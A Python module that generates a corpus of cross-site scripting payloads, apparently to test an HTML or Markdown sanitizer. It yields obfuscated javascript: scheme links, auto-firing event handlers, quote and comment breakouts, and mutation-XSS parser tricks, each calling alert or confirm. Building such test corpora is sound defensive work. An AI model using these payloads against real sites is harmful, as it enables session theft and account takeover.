"""Payloads of cross-site scripting, made here, of the families of the cheat sheets.

Schemes that run, spelt in every way that a browser or a parser may forgive; elements
and events that run by themselves; marks that leave their place; what turns into
another thing when it is parsed twice; and all of it in the marks of the dialect.
"""

from collections.abc import Iterator
from itertools import product

CALLS = ("alert(1)", "alert`1`", "confirm(1)", "top['al'+'ert'](1)")
SCHEMES = ("javascript", "vbscript", "data:text/html,", "livescript", "file", "blob")
EVENTS = (
    *("onerror", "onload", "onfocus", "onmouseover", "onclick", "onbegin", "onend"),
    *("ontoggle", "onanimationstart", "onpointerover", "onscroll", "onwheel"),
)
ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x"),
    *("audio src=x", "iframe", "marquee", "select autofocus", "object data=x", "math"),
    *("textarea autofocus", "keygen autofocus", "sup", "sub", "a href=x", "p", "u"),
)
LEAVERS = ("", '"', "'", '">', "'>", "-->", "]]>", "*/", ")", "](", "\\", "</p>", "`")
FRAMES = (
    *("noscript", "style", "title", "textarea", "xmp", "iframe", "noembed", "math"),
    *("svg", "template", "select", "table", "plaintext", "script"),
)
LINKS = (
    *("[x]({})", "![x]({})", "<{}>", "[x](<{}>)", "[x][1]\n\n[1]: {}", "{}"),
    *("[x](https://a.test{})", '[x](https://a.test "{}")', "[x](mailto:a@b.test?{})"),
    *("[x](pmid:{})", "[x](doi:10.1000/{})", "x[^1]({})", "<sup>[x]({})</sup>"),
    *("*[x]({})*", "- [x]({})", "[![x]({})](https://a.test)", "[[x]({})]({})"),
)


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    made = [*_schemes(), *_events(), *_frames(), *_others()]
    return list(dict.fromkeys(made))


def _schemes() -> Iterator[str]:
    for scheme, call in product(SCHEMES, CALLS[:2]):
        for spelt in _spelt(scheme):
            for link in LINKS:
                yield link.replace("{}", f"{spelt}:{call}")


def _spelt(scheme: str) -> Iterator[str]:
    yield scheme
    yield scheme.upper()
    yield "".join(c.upper() if at % 2 else c for at, c in enumerate(scheme))
    yield from (f"{scheme[:2]}{mark}{scheme[2:]}" for mark in "\t\n\r\0\x0b\u200b\\")
    yield from (f"{mark}{scheme}" for mark in " \x01\x1f\u00a0\u2028")
    yield "".join(f"&#{ord(c)};" for c in scheme)
    yield "".join(f"&#x{ord(c):X}" for c in scheme)
    yield "".join(f"%{ord(c):02x}" for c in scheme)
    yield scheme.replace("s", "ſ")
    yield f"{scheme}&colon;"
    yield f"{scheme}&Tab;"
    yield f"//{scheme}"


def _events() -> Iterator[str]:
    for element, event in product(ELEMENTS, EVENTS):
        name = element.split(" ", maxsplit=1)[0]
        yield f"<{element} {event}={CALLS[0]}>"
        yield f"<{element}/{event}={CALLS[1]}>x</{name}>"
    for leaver, event in product(LEAVERS, EVENTS):
        yield f"{leaver} {event}={CALLS[0]} x={leaver}"
        yield f"{leaver}<img src=x {event}={CALLS[0]}>"
        yield f"{leaver}<sup {event}={CALLS[0]}>x</sup>"


def _frames() -> Iterator[str]:
    for frame, call in product(FRAMES, CALLS):
        inner = f"<img src=x onerror={call}>"
        yield f'<{frame}><p title="</{frame}>{inner}">'
        yield f"<{frame}>{inner}</{frame}>"
        yield f"<math><mtext><{frame}><mglyph><style></math>{inner}"
        yield f"<svg></p><{frame}><a title='</{frame}>{inner}'>"
        yield f"<{frame}<sup>{inner}</{frame}</sup>"
        yield f"<sup><{frame}>{inner}</sup></{frame}>"


def _others() -> Iterator[str]:
    for call in CALLS:
        yield f"<script>{call}</script>"
        yield f"<scr<sup>ipt>{call}</scr</sup>ipt>"
        yield f"<script src=data:text/javascript,{call}></script>"
        for changed in (
            f"animate values=javascript:{call}",
            f"set to=javascript:{call}",
        ):
            yield f"<svg><a><{changed} attributeName=href /><text>x</text></a></svg>"
        yield f"<meta http-equiv=refresh content='0;url=javascript:{call}'>"
        yield f"<base href='javascript:{call}//'>"
        yield f"<form action=javascript:{call}><button>x</button></form>"
        yield f"<a href=javascript:{call} id=body name=body>x</a>"
        yield f"<p style='background:url(javascript:{call})'>x</p>"
        yield f"<style>@import 'javascript:{call}';</style>"
        yield f"<!--><img src=x onerror={call}>-->"
        yield f"<![CDATA[><img src=x onerror={call}>]]>"
        yield f"<?xml <img src=x onerror={call}>?>"
